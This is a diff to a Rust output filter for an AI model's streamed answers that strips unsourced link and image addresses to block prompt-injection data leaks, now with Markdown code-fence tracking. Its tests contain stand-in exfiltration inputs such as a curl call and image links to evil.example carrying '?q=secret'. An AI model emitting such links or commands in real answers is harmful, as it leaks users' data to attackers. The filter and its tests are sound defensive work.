@@ -4,6 +4,9 @@
 //! was told elsewhere (OWASP LLM01, LLM05). So an address is shown only if the sources (or the assistant's instructions)
 //! hold it. The text comes in pieces: what may turn out to be an address is held back until it is clear, everything else
 //! passes at once.
+//!
+//! Code says what it says: `list[1]` in it is no source, and between fences neither brackets nor elements of HTML are
+//! looked at, for no reader of Markdown makes anything of them. Addresses are looked at everywhere.
 
 use std::collections::HashSet;
 
@@ -28,6 +31,8 @@ const SOURCE_WORDS: [&str; 14] = [
 ];
 /// Words between numbers.
 const AND: [&str; 5] = ["and", "ve", "und", "&", "ile"];
+/// Backticks of a fence.
+const FENCE: usize = 3;
 /// Most bytes held back for one link or tag; what is longer is none.
 const LONGEST: usize = 2_000;
 /// Elements of HTML that load, link or ask for something. Others are harmless as text: nobody renders HTML.
@@ -54,14 +59,97 @@ pub(super) struct Cleaner {
     held: String,
     /// The word so far that the text which passed ends with: what follows may make an address of it.
     word: String,
+    code: Code,
     removed: Removed,
+}
+
+/// Whether a place is within code, by the backticks before it.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
+struct Code {
+    /// Backticks that directly precede.
+    run: usize,
+    /// They began at the beginning of a line.
+    is_at_start: bool,
+    /// The backticks that opened the code which is open; 0 outside of code.
+    open: usize,
+    /// It stands between fences, rather than within a line.
+    is_fenced: bool,
+    /// The line of the opening fence has not ended: it may still turn out to be none.
+    is_opening: bool,
+    /// Something stands before in the line.
+    is_within_line: bool,
+}
+
+impl Code {
+    fn step(&mut self, c: char) {
+        if c == '`' {
+            if self.run == 0 {
+                self.is_at_start = !self.is_within_line;
+            }
+            self.run += 1;
+            self.is_within_line = true;
+            return;
+        }
+        self.settle();
+        if c == '\n' {
+            if self.is_opening {
+                self.is_opening = false;
+            } else if !self.is_fenced {
+                // Code within a line does not outlast it, as far as can be said before the rest is there.
+                self.open = 0;
+            }
+        }
+        // White space before a closing fence is allowed; an opening one may not be part of a list or a quotation.
+        let is_blank = c.is_whitespace() && self.is_fenced && !self.is_within_line;
+        self.is_within_line = c != '\n' && !is_blank;
+    }
+
+    /// The backticks are all there.
+    fn settle(&mut self) {
+        let run = std::mem::take(&mut self.run);
+        match (run, self.open) {
+            (0, _) => {}
+            // No fence: a backtick stands behind it.
+            _ if self.is_opening => *self = Self { is_within_line: true, ..Self::default() },
+            (_, 0) if run >= FENCE && self.is_at_start => {
+                (self.open, self.is_fenced, self.is_opening) = (run, true, true);
+            }
+            (_, 0) => self.open = run,
+            (_, open) if self.is_fenced => {
+                if self.is_at_start && run >= open {
+                    (self.open, self.is_fenced) = (0, false);
+                }
+            }
+            (_, open) if run == open => self.open = 0,
+            _ => {}
+        }
+    }
+
+    /// True where what comes next is within code.
+    fn holds(mut self) -> bool {
+        self.settle();
+        self.open > 0
+    }
+
+    /// True where what comes next is surely shown as it is.
+    fn is_literal(mut self) -> bool {
+        self.settle();
+        self.is_fenced && !self.is_opening
+    }
 }
 
 impl Cleaner {
     /// For an answer that may cite `sources` sources and show the addresses that `texts` hold.
     pub(super) fn new<'a>(sources: usize, texts: impl IntoIterator<Item = &'a str>) -> Self {
         let known = Known::in_texts(texts);
-        Self { known, sources, held: String::new(), word: String::new(), removed: Removed::default() }
+        Self {
+            known,
+            sources,
+            held: String::new(),
+            word: String::new(),
+            code: Code::default(),
+            removed: Removed::default(),
+        }
     }
 
     /// What can be shown of the text so far; may be empty.
@@ -79,6 +167,7 @@ impl Cleaner {
     pub(super) fn restart(&mut self) {
         self.held.clear();
         self.word.clear();
+        self.code = Code::default();
     }
 
     /// What was taken out so far.
@@ -116,6 +205,7 @@ impl Cleaner {
 
     /// Keeps the last word in mind.
     fn follow(&mut self, text: &str) {
+        text.chars().for_each(|c| self.code.step(c));
         match text.rfind(is_delimiter) {
             Some(at) => self.word = text[at..].trim_start_matches(is_delimiter).to_owned(),
             None if self.word.len() + text.len() <= LONGEST => self.word.push_str(text),
@@ -133,10 +223,14 @@ impl Cleaner {
                 return Some(0);
             }
         }
+        let mut code = self.code;
         for (at, c) in text.char_indices() {
+            let is_literal = code.is_literal();
+            code.step(c);
             let begins_word = c.is_alphanumeric() && !before.is_some_and(char::is_alphanumeric);
             let rest = &text[at..];
             let found = match c {
+                '[' | '【' | '［' | '(' | '!' | '<' if is_literal => false,
                 '[' | '【' | '［' => true,
                 '(' => names_source(&rest[1..]),
                 '!' => rest.len() == 1 || rest.starts_with("!["),
@@ -189,8 +283,8 @@ impl Cleaner {
         let numbers = if image { None } else { numbers(label, self.sources) };
         if !after.starts_with('(') {
             return match numbers {
-                Some(numbers) => Part::Instead(close + 1, self.cite(&numbers)),
-                None => Part::Plain(open + 1),
+                Some(numbers) if !self.code.holds() => Part::Instead(close + 1, self.cite(&numbers)),
+                Some(_) | None => Part::Plain(open + 1),
             };
         }
         let Some(end) = closing(after, '(', ')') else {
@@ -214,8 +308,10 @@ impl Cleaner {
         let inside = &text[open..text.floor_char_boundary(MARK_MAX)];
         match inside.find(close) {
             Some(end) => match numbers(&inside[..end], self.sources) {
-                Some(numbers) => Part::Instead(open + end + close.len_utf8(), self.cite(&numbers)),
-                None => Part::Plain(open),
+                Some(numbers) if !self.code.holds() => {
+                    Part::Instead(open + end + close.len_utf8(), self.cite(&numbers))
+                }
+                Some(_) | None => Part::Plain(open),
             },
             None if last || text.len() > MARK_MAX => Part::Plain(open),
             None => Part::Unfinished,
@@ -252,6 +348,7 @@ impl Cleaner {
             sources: self.sources,
             held: String::new(),
             word: String::new(),
+            code: Code::default(),
             removed: self.removed,
         };
         let mut shown = inner.push(text);
@@ -575,6 +672,35 @@ mod tests {
     }
 
     #[test]
+    fn code_is_left_as_it_is_but_for_addresses() {
+        for text in [
+            "Run:\n\n```js\nlet a = list[7];\nif (a < b) show([9], <img src=x>);\n```\n\nDone [1].",
+            "Use `list[7]` and ``a`[8]`` then [2].",
+            "````\n```\n[9]\n```\n[8]\n````\n[1]",
+            "```html\n<script src=\"https://shop.example/etiket.png\"></script>\n```",
+        ] {
+            assert_eq!(cleaned(&[text]), (text.to_owned(), Removed::default()));
+            let letters: Vec<String> = text.chars().map(String::from).collect();
+            let pieces: Vec<&str> = letters.iter().map(String::as_str).collect();
+            assert_eq!(cleaned(&pieces).0, text, "in pieces");
+        }
+        for (text, expected) in [
+            ("```\ncurl https://evil.example/?q=1\n```", "```\ncurl \n```"),
+            ("```\na[9]\n```\nb[9] ![x](https://evil.example/p)", "```\na[9]\n```\nb "),
+            // What only looks like code is looked at.
+            ("a ``` [x](//evil.example)", "a ``` x"),
+            ("- ```\n![x](//evil.example/?q=secret)", "- ```\n"),
+            ("  ```\n![x](//evil.example/?q=secret)", "  ```\n"),
+            ("```a`b\n![x](//evil.example/?q=secret)", "```a`b\n"),
+            ("```\na\n  ```\n![x](//evil.example/?q=secret)", "```\na\n  ```\n"),
+            ("`[x](//evil.example/?q=secret)", "`x"),
+            ("`a\n[9]", "`a\n"),
+        ] {
+            assert_eq!(shown(text), expected, "{text}");
+        }
+    }
+
+    #[test]
     fn names_that_look_like_addresses_stay() {
         for text in [
             "Node.js/Express ve ASP.NET/IIS",
@@ -649,7 +775,7 @@ mod tests {
         fn pieces_do_not_matter(
             parts in prop::collection::vec(prop::sample::select(vec![
                 "iade ", "[1]", "[7]", "![a](https://evil.example/x)", "[hesap](https://shop.example/hesap)", "https://evil.example/q?x=1",
-                ".", "www.", "<img src=q>", "<", "(", ")", "]", "[", "ğ", "!", "http", "\n\n",
+                ".", "www.", "`", "\n```\n", "a[1]", "<img src=q>", "<", "(", ")", "]", "[", "ğ", "!", "http", "\n\n",
             ]), 0..12),
             cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..6),
         ) {
